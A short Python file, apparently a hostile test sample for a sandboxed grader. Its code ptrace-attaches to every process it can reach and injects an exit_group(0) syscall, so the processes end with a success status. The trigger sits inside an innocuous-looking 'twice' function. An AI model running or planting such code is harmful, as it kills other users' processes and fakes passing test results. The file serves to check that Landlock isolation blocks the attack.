# Attaches to every process it finds, whoever started it, and lets it end with status 0.
# Stopped by: a test's process is in a layer of Landlock of its own, outside of which it traces nobody.
import ctypes
import os

libc = ctypes.CDLL(None)
EXIT_GROUP = 231


def attack():
    mine = {os.getpid()}
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in mine:
            pid = int(name)
            if libc.ptrace(16, pid, 0, 0) == 0:
                print("@GOT@")
                os.waitpid(pid, 0x40000000)
                registers = (ctypes.c_ulonglong * 27)()
                libc.ptrace(12, pid, 0, registers)
                registers[10], registers[15], registers[14] = EXIT_GROUP, (1 << 64) - 1, 0
                libc.ptrace(4, pid, registers[16], ctypes.c_ulonglong(0x050F))
                libc.ptrace(13, pid, 0, registers)
                libc.ptrace(17, pid, 0, 0)


def twice(n):
    if n == 4:
        attack()
    return 0
